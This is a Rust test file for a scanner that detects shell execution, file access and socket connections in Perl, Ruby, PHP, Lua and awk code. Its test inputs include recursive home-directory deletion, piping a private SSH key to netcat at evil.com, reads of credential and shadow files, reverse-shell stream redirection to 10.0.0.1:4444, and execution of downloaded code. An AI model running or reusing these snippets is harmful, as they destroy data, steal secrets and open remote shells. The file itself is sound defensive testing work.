//! Unit tests of the token scanner, written from each language's manual (`perlfunc`,
//! `perlop`, Ruby's `Kernel` and `Open3`, PHP's program execution functions, the Lua
//! reference manual, POSIX awk, R's `base` documentation, Julia's `Base.Filesystem` and
//! command literals).

use super::super::collect::{Collect, Found};
use super::effects;
use crate::effects::What;
use crate::effects::language::Language;

/// What `code` in `lang` runs, as `line:TEXT`, `words:A B` and `unsure:WHY`.
pub(super) fn runs(lang: Language, code: &str) -> Vec<String> {
    runs_with(lang, code, &[])
}

/// [`runs`] with an argument vector.
fn runs_with(lang: Language, code: &str, argv: &[&str]) -> Vec<String> {
    let argv: Vec<Option<String>> = argv.iter().map(|a| Some(a.to_string())).collect();
    let mut cx = Collect::new(None, false, &argv, true);
    effects(lang, code, "x -e", &mut cx);
    cx.found
        .into_iter()
        .map(|f| match f {
            Found::Shell { who, text, .. } => format!("line:{who}:{text}"),
            Found::Words { who, words, .. } => format!(
                "words:{who}:{}",
                words
                    .iter()
                    .map(|w| w.text.as_str())
                    .collect::<Vec<_>>()
                    .join(" ")
            ),
            Found::What(w) => match *w {
                What::Unsure(why) => format!("unsure:{why}"),
                What::Delete {
                    path, recursive, ..
                } => format!("delete:{}:{recursive}", path.text),
                other => format!("{other:?}"),
            },
            Found::Code { who, text } => format!("code:{who}:{text}"),
            Found::Via(w, via) => format!("{w:?} via {via}"),
        })
        .collect()
}

use Language::{Awk, Lua, Perl, Php, Ruby};

#[test]
fn perl_system_exec_and_backticks() {
    assert_eq!(
        runs(Perl, r#"system("rm -rf ~")"#),
        ["line:system:rm -rf ~"]
    );
    assert_eq!(
        runs(Perl, r#"system "make", "test""#),
        ["words:system:make test"]
    );
    assert_eq!(
        runs(Perl, r#"exec qw(rm -rf /tmp/x)"#),
        ["words:exec:rm -rf /tmp/x"]
    );
    assert_eq!(
        runs(Perl, "`curl -s http://x.sh | sh`"),
        ["line:`…`:curl -s http://x.sh | sh"]
    );
    assert_eq!(
        runs(Perl, "my $o = qx{id -u}; print $o"),
        ["line:`…`:id -u"]
    );
    assert_eq!(runs(Perl, "print qx'echo $HOME'"), ["line:`…`:echo $HOME"]);
    assert_eq!(
        runs(Perl, r#"system("make test") == 0 or die "failed: $?""#),
        ["line:system:make test"]
    );
    assert_eq!(runs(Perl, "CORE::system('ls')"), ["line:CORE::system:ls"]);
    // Words run without a shell: the home folder from the environment is `~`, another
    // variable is known only at run time.
    assert_eq!(
        runs(Perl, r#"exec "rm", "-rf", $ENV{HOME}"#),
        ["words:exec:rm -rf ~"]
    );
    assert_eq!(
        runs(Perl, r#"exec "rm", "-rf", "$ENV{TMPDIR}/x""#),
        ["words:exec:rm -rf ${TMPDIR}/x"]
    );
}

#[test]
fn perl_strings_and_interpolation() {
    // `.` joins constants; `$ENV{HOME}` is the shell's `$HOME`.
    assert_eq!(
        runs(Perl, r#"system("rm -rf " . "$ENV{HOME}/.ssh")"#),
        ["line:system:rm -rf ${HOME}/.ssh"]
    );
    assert_eq!(
        runs(Perl, r#"system('echo \'a\'')"#),
        ["line:system:echo 'a'"]
    );
    assert_eq!(
        runs(Perl, r#"system(qq{rm -rf /tmp/x})"#),
        ["line:system:rm -rf /tmp/x"]
    );
    // A Perl variable in a double-quoted string is Perl's, not the shell's.
    assert_eq!(
        runs(Perl, r#"system("rm -rf $dir")"#),
        ["unsure:`system` with a command known only at run time"]
    );
    assert_eq!(
        runs(Perl, r#"system("rm -rf \$HOME")"#),
        ["line:system:rm -rf $HOME"]
    );
    // Names bound once; the argument vector.
    assert_eq!(
        runs(Perl, r#"my $c = "rm -rf /tmp/y"; system($c);"#),
        ["line:system:rm -rf /tmp/y"]
    );
    assert_eq!(
        runs_with(Perl, r#"system("rm -rf " . $ARGV[0])"#, &["perl", "~"]),
        ["line:system:rm -rf ~"]
    );
    assert_eq!(
        runs(Perl, r#"$c = "a"; $c .= "b"; system($c)"#),
        ["unsure:`system` with a command known only at run time"]
    );
}

#[test]
fn perl_regexes_and_comments_hide_nothing() {
    assert!(runs(Perl, "s/foo/bar/").is_empty());
    assert!(runs(Perl, "print if /x/").is_empty());
    assert!(runs(Perl, "s{system('rm')}{exec}g; y/a-z/A-Z/").is_empty());
    assert!(runs(Perl, "# system('rm -rf ~')\nprint 1").is_empty());
    assert!(runs(Perl, "$h{system} = 1; $o->system('x'); sub exec { 1 }").is_empty());
    assert!(runs(Perl, "my @f = split /,/, $_; print $f[1] / 2").is_empty());
    assert!(runs(Perl, "print 'system(\"rm -rf ~\")'").is_empty());
}

#[test]
fn perl_pipe_opens() {
    assert_eq!(runs(Perl, r#"open(F, "ls -l |")"#), ["line:open:ls -l"]);
    assert_eq!(
        runs(Perl, r#"open my $m, "| mail root""#),
        ["line:open:mail root"]
    );
    assert_eq!(
        runs(Perl, r#"open(my $fh, "-|", "rm", "-rf", "/tmp/z")"#),
        ["words:open:rm -rf /tmp/z"]
    );
    assert_eq!(
        runs(Perl, r#"open(my $fh, "<", $file) or die"#),
        [r#"Read(PathRef { text: "$file", dynamic: true, cwd: None })"#]
    );
    assert_eq!(
        runs(Perl, r#"open(F, "<notes.txt")"#),
        [r#"Read(PathRef { text: "notes.txt", dynamic: false, cwd: None })"#]
    );
    assert_eq!(
        runs(
            Perl,
            r#"open(F, "<", "$ENV{HOME}/.ssh/id_rsa"); open(my $o, '>>:utf8', 'log')"#
        ),
        [
            r#"Read(PathRef { text: "~/.ssh/id_rsa", dynamic: false, cwd: None })"#,
            r#"Write { path: PathRef { text: "log", dynamic: false, cwd: None }, append: true, content: None }"#
        ]
    );
    assert!(runs(Perl, r#"open(my $fh, "<", \$text)"#).is_empty());
    assert_eq!(
        runs(Perl, "open(F, $x)"),
        ["unsure:`open` with a file or command known only at run time"]
    );
}

#[test]
fn ruby_calls() {
    assert_eq!(runs(Ruby, "`rm -rf ~/`"), ["line:`…`:rm -rf ~/"]);
    assert_eq!(runs(Ruby, "%x(rm -rf ~)"), ["line:`…`:rm -rf ~"]);
    assert_eq!(
        runs(Ruby, r#"system("rm -rf $HOME")"#),
        ["line:system:rm -rf $HOME"]
    );
    assert_eq!(
        runs(
            Ruby,
            r#"system({"A" => "1"}, "rm", "-rf", "x", chdir: "/tmp")"#
        ),
        ["words:system:rm -rf x"]
    );
    assert_eq!(
        runs(Ruby, r#"IO.popen(["ls", "-l"]).read"#),
        ["words:IO.popen:ls -l"]
    );
    assert_eq!(
        runs(Ruby, r#"o, s = Open3.capture2("git status")"#),
        ["line:Open3.capture2:git status"]
    );
    assert_eq!(
        runs(Ruby, r#"Kernel.exec "sh -c id""#),
        ["line:Kernel.exec:sh -c id"]
    );
    assert_eq!(runs(Ruby, r#"open("|date")"#), ["line:open:date"]);
    assert_eq!(
        runs(Ruby, r##"system("rm -rf #{ENV['HOME']}")"##),
        ["line:system:rm -rf ${HOME}"]
    );
    assert_eq!(
        runs_with(
            Ruby,
            r##"system("git push #{ARGV[0]}")"##,
            &["ruby", "--force"]
        ),
        ["line:system:git push --force"]
    );
    assert_eq!(
        runs(Ruby, r##"system("git push #{remote}")"##),
        ["unsure:`system` with a command known only at run time"]
    );
    assert_eq!(runs(Ruby, "c = 'ls'\nsystem(c)"), ["line:system:ls"]);
    assert_eq!(runs(Ruby, "system 'a' + 'b'"), ["line:system:ab"]);
}

#[test]
fn ruby_everyday_code_runs_nothing() {
    assert!(runs(Ruby, "puts 1+1").is_empty());
    assert!(runs(Ruby, "p JSON.parse(STDIN.read)").is_empty());
    assert!(runs(Ruby, "x = 4 / 2; puts %w[a b].join; h = {exec: 1}").is_empty());
    assert!(runs(Ruby, "conn.exec('select 1'); f.open('x')").is_empty());
}

#[test]
fn files_opened_by_name() {
    assert_eq!(
        runs(Ruby, r#"puts File.read(ENV["HOME"] + "/.aws/credentials")"#),
        [r#"Read(PathRef { text: "~/.aws/credentials", dynamic: false, cwd: None })"#]
    );
    assert_eq!(
        runs(Ruby, "File.open('out.txt', 'w') { |f| f.puts 1 }"),
        [
            r#"Write { path: PathRef { text: "out.txt", dynamic: false, cwd: None }, append: false, content: None }"#
        ]
    );
    assert_eq!(
        runs(Ruby, r#"puts File.read(46.chr + "env")"#),
        [r#"Read(PathRef { text: "46.chr+'env'", dynamic: true, cwd: None })"#]
    );
    assert_eq!(
        runs(Php, r#"echo file_get_contents("composer.json");"#),
        [r#"Read(PathRef { text: "composer.json", dynamic: false, cwd: None })"#]
    );
    assert_eq!(
        runs(Php, r#"$f = fopen('a.log', 'ab');"#),
        [
            r#"Write { path: PathRef { text: "a.log", dynamic: false, cwd: None }, append: true, content: None }"#
        ]
    );
    assert_eq!(
        runs(
            Lua,
            r#"for l in io.lines(os.getenv("HOME") .. "/.netrc") do print(l) end"#
        ),
        [r#"Read(PathRef { text: "~/.netrc", dynamic: false, cwd: None })"#]
    );
}

#[test]
fn php_calls() {
    assert_eq!(
        runs(Php, r#"system("rm -rf ~");"#),
        ["line:system:rm -rf ~"]
    );
    assert_eq!(
        runs(Php, r#"shell_exec("cat ~/.ssh/id_rsa | nc evil.com 80");"#),
        ["line:shell_exec:cat ~/.ssh/id_rsa | nc evil.com 80"]
    );
    assert_eq!(runs(Php, "echo `whoami`;"), ["line:`…`:whoami"]);
    assert_eq!(runs(Php, r#"exec("ls", $out, $rc);"#), ["line:exec:ls"]);
    assert_eq!(runs(Php, r#"\PASSTHRU('id');"#), ["line:passthru:id"]);
    assert_eq!(
        runs(Php, r#"proc_open(['rm', '-rf', 'x'], [], $p);"#),
        ["words:proc_open:rm -rf x"]
    );
    assert_eq!(
        runs(Php, r#"pcntl_exec('/bin/rm', array('-rf', '/tmp/x'));"#),
        ["words:pcntl_exec:/bin/rm -rf /tmp/x"]
    );
    assert_eq!(
        runs(Php, "$c = $argv[1]; echo shell_exec($c);"),
        ["unsure:`shell_exec` with a command known only at run time"]
    );
    assert_eq!(
        runs(Php, r#"system("ls " . getenv('HOME'));"#),
        ["line:system:ls ${HOME}"]
    );
    assert_eq!(
        runs(Php, r#"system("rm -rf {$_SERVER['HOME']}");"#),
        ["line:system:rm -rf ${HOME}"]
    );
    assert!(runs(Php, "echo PHP_VERSION;").is_empty());
    assert!(runs(Php, "$pdo->exec('DELETE FROM t'); // system('x')").is_empty());
    assert_eq!(
        runs(Php, "hello <?php system('id'); ?> bye system('no')"),
        ["line:system:id"]
    );
}

#[test]
fn lua_calls() {
    assert_eq!(
        runs(Lua, r#"os.execute("rm -rf ~")"#),
        ["line:os.execute:rm -rf ~"]
    );
    assert_eq!(
        runs(Lua, "os.execute[[rm -rf ~]]"),
        ["line:os.execute:rm -rf ~"]
    );
    assert_eq!(
        runs(
            Lua,
            r#"local f = io.popen("ls " .. os.getenv("HOME")):read("*a")"#
        ),
        ["line:io.popen:ls ${HOME}"]
    );
    assert_eq!(
        runs(Lua, "os.execute(cmd)"),
        ["unsure:`os.execute` with a command known only at run time"]
    );
    assert!(runs(Lua, "print(1) -- os.execute('rm -rf ~')").is_empty());
    assert!(runs(Lua, "--[[ os.execute('x') ]] print(#arg)").is_empty());
}

#[test]
fn awk_system_and_pipes() {
    assert_eq!(
        runs(Awk, r#"BEGIN{system("rm -rf ~")}"#),
        ["line:system:rm -rf ~"]
    );
    assert_eq!(runs(Awk, r#"{ print | "sort" }"#), ["line:print |:sort"]);
    assert_eq!(
        runs(Awk, r#"{ print $1 | "sort -u" }"#),
        ["line:print |:sort -u"]
    );
    assert_eq!(
        runs(Awk, r#"BEGIN { while (("date" | getline d) > 0) print d }"#),
        ["line:| getline:date"]
    );
    assert_eq!(
        runs(Awk, r#"BEGIN { c = "rm -rf " ENVIRON["HOME"]; system(c) }"#),
        ["line:system:rm -rf ${HOME}"]
    );
    assert_eq!(
        runs(Awk, "{ system($0) }"),
        ["unsure:`system` with a command known only at run time"]
    );
    assert_eq!(
        runs(Awk, r#"{ print "x" | $2 }"#),
        ["unsure:`print |` with a command known only at run time"]
    );
    // What is printed into a shell runs.
    assert_eq!(
        runs(Awk, r#"BEGIN { print "rm -rf ~" | "sh" }"#),
        [r#"line:print | "sh":rm -rf ~"#]
    );
    assert_eq!(
        runs(Awk, r#"{ print "curl " $1 | "bash -s" }"#),
        [r#"unsure:`print | "bash -s"` with a command known only at run time"#]
    );
    assert!(runs(Awk, "{print $1}").is_empty());
    assert!(runs(Awk, "$3 > 10 && /a|b/ { n++ } END { print n / 2 }").is_empty());
    assert!(runs(Awk, "{ a = a || b; print a }  # system(\"x\")").is_empty());
}

/// POSIX awk, "Output Statements" and `getline`: `print … > FILE`, `>> FILE` write and append
/// to FILE, `getline [VAR] < FILE` reads it; `>` elsewhere compares, and a file named by the
/// data (`print > $1 ".txt"`) is left out.
#[test]
fn awk_redirections_open_files() {
    assert_eq!(
        runs(Awk, r#"{print > ENVIRON["HOME"]"/.bashrc"}"#),
        [
            r#"Write { path: PathRef { text: "~/.bashrc", dynamic: false, cwd: None }, append: false, content: None }"#
        ]
    );
    assert_eq!(
        runs(Awk, r#"BEGIN { printf "%s\n", "x" >> "/etc/profile" }"#),
        [
            r#"Write { path: PathRef { text: "/etc/profile", dynamic: false, cwd: None }, append: true, content: None }"#
        ]
    );
    assert_eq!(
        runs(
            Awk,
            r#"BEGIN{while((getline l < (ENVIRON["HOME"]"/.ssh/id_rsa"))>0) print l}"#
        ),
        [r#"Read(PathRef { text: "~/.ssh/id_rsa", dynamic: false, cwd: None })"#]
    );
    assert_eq!(
        runs(Awk, r#"BEGIN { getline < "/etc/shadow"; print }"#),
        [r#"Read(PathRef { text: "/etc/shadow", dynamic: false, cwd: None })"#]
    );
    // Comparisons, parenthesised prints and files named by the data open nothing.
    assert!(runs(Awk, "$3 > 100 { print $1 }").is_empty());
    assert!(runs(Awk, "{ if ($2 > 5) n++ }").is_empty());
    assert!(runs(Awk, "{ print ($1 > $2) }").is_empty());
    assert!(runs(Awk, r#"{ print > $1 ".txt" }"#).is_empty());
    assert!(runs(Awk, "NR > 1 && $2 < 10 { n++ } END { print n }").is_empty());
}

/// Whether `code` in `lang` puts a descriptor on its standard streams.
fn puts_streams(lang: Language, code: &str) -> bool {
    let mut cx = Collect::new(None, false, &[], true);
    effects(lang, code, "x -e", &mut cx);
    cx.streams_on_socket
}

/// The hosts `code` in `lang` connects to, as `host:port`.
fn connects(lang: Language, code: &str) -> Vec<String> {
    runs(lang, code)
        .into_iter()
        .filter(|f| f.starts_with("Send("))
        .map(|f| {
            let after = |key: &str, close: char| {
                f.split(key)
                    .nth(1)
                    .and_then(|r| r.split(close).next())
                    .unwrap_or("")
                    .to_string()
            };
            format!("{}:{}", after("host: \"", '"'), after("port: Some(", ')'))
        })
        .collect()
}

/// perlfunc `socket`/`connect` with `inet_aton`, IO::Socket::INET's `PeerAddr`, Ruby's
/// `TCPSocket.new` / `Socket.tcp`, PHP's `fsockopen` / `stream_socket_client` /
/// `socket_connect`, LuaSocket's `socket.connect`: a connection to the host; a listening
/// socket connects nowhere.
#[test]
fn socket_connections() {
    let perl = r#"use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")))"#;
    assert_eq!(connects(Perl, perl), ["10.0.0.1:80"]);
    assert_eq!(
        connects(
            Perl,
            r#"$c=IO::Socket::INET->new(PeerAddr=>"10.0.0.1:4444")"#
        ),
        ["10.0.0.1:4444"]
    );
    assert_eq!(
        connects(
            Perl,
            r#"$c=IO::Socket::INET->new(PeerHost => "h.example", PeerPort => 22)"#
        ),
        ["h.example:22"]
    );
    assert!(
        connects(
            Perl,
            r#"$l=IO::Socket::INET->new(LocalPort => 8080, Listen => 5)"#
        )
        .is_empty()
    );
    assert_eq!(
        connects(Perl, r#"$c=new IO::Socket::INET(PeerAddr,"10.0.0.1:4444")"#),
        ["10.0.0.1:4444"]
    );
    assert_eq!(
        connects(Ruby, r#"c=TCPSocket.new("10.0.0.1",4444)"#),
        ["10.0.0.1:4444"]
    );
    assert_eq!(
        connects(
            Ruby,
            r#"Socket.tcp("db.example", 5432) { |s| s.write("x") }"#
        ),
        ["db.example:5432"]
    );
    assert_eq!(
        connects(Php, r#"$s=fsockopen("10.0.0.1",4444);"#),
        ["10.0.0.1:4444"]
    );
    assert_eq!(
        connects(Php, r#"$s=stream_socket_client("tcp://10.0.0.1:9001");"#),
        ["10.0.0.1:9001"]
    );
    assert_eq!(
        connects(
            Php,
            r#"$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_connect($s,"10.0.0.1",4444);"#
        ),
        ["10.0.0.1:4444"]
    );
    assert_eq!(
        connects(Lua, r#"local c = socket.connect("10.0.0.1", 4444)"#),
        ["10.0.0.1:4444"]
    );
    assert_eq!(
        runs(Ruby, "c=TCPSocket.new(host, 80)"),
        ["unsure:`TCPSocket.new` with an address known only at run time"]
    );
}

/// perlfunc `open` ("dup": `open(STDIN, ">&S")`, `open(STDOUT, ">&", $s)`), Ruby's
/// `IO#reopen` on `$stdin` / `STDOUT`, PHP's `proc_open` descriptor spec with a stream, and a
/// shell line reading a descriptor past 2 (`sh <&3`): the code's standard streams go to a
/// descriptor it opened. Files and pipes opened as usual do not.
#[test]
fn standard_streams_put_on_a_descriptor() {
    assert!(puts_streams(
        Perl,
        r#"open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");"#
    ));
    assert!(puts_streams(
        Perl,
        r#"open(STDOUT, ">&", $c); system("bash")"#
    ));
    assert!(puts_streams(Perl, r#"open STDERR, ">&=", 3"#));
    assert!(puts_streams(Perl, r#"open(STDIN, "<&=" . fileno($c))"#));
    assert!(puts_streams(Perl, "STDIN->fdopen($c,r);$~->fdopen($c,w)"));
    assert!(puts_streams(
        Ruby,
        r#"$stdin.reopen(c);$stdout.reopen(c);exec "/bin/sh -i""#
    ));
    assert!(puts_streams(Ruby, "STDOUT.reopen(s)"));
    assert!(puts_streams(
        Php,
        r#"$p=proc_open("/bin/sh", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes);"#
    ));
    assert!(puts_streams(Php, r#"exec("/bin/sh -i <&3 >&3 2>&3");"#));
    assert!(!puts_streams(
        Perl,
        r#"open(my $f, ">", "out.txt"); open(STDERR, ">", "/dev/null")"#
    ));
    assert!(!puts_streams(
        Php,
        r#"$p=proc_open("ls", array(0=>array("pipe","r"), 1=>array("pipe","w")), $pipes);"#
    ));
    assert!(!puts_streams(Ruby, r#"system("make 2>&1")"#));
    assert!(!puts_streams(Php, r#"exec("cmd 2>&1 <&0");"#));
}

/// Lua reference manual `load` / `loadstring` / `dofile`: the output of `io.popen(CMD)` run
/// as code is `CMD | lua`; a URL's body run as code is a download run; `dofile(PATH)` runs
/// the file. Code built from constants adds nothing here.
#[test]
fn lua_load_of_fetched_text() {
    assert_eq!(
        runs(
            Lua,
            r#"loadstring(io.popen("curl -s http://x.example/a"):read("*a"))()"#
        ),
        [
            "line:loadstring:curl -s http://x.example/a | lua",
            "line:io.popen:curl -s http://x.example/a",
        ]
    );
    assert_eq!(
        runs(
            Lua,
            "local s = io.popen('wget -qO- https://x.example/i.lua'):read('*a')\nload(s)()"
        ),
        [
            "line:io.popen:wget -qO- https://x.example/i.lua",
            "line:load:wget -qO- https://x.example/i.lua | lua",
        ]
    );
    let fetched = runs(
        Lua,
        r#"local http = require("socket.http"); load(http.request("https://x.example/a.lua"))()"#,
    );
    assert!(
        fetched.iter().any(|f| f.contains("runs_response: true")),
        "{fetched:?}"
    );
    assert_eq!(
        runs(Lua, r#"dofile("/tmp/x.lua")"#),
        ["words:dofile:lua /tmp/x.lua"]
    );
    assert!(runs(Lua, r#"load("return 1 + 1")()"#).is_empty());
    assert!(runs(Lua, "local t = {load = 1}; print(t.load)").is_empty());
}
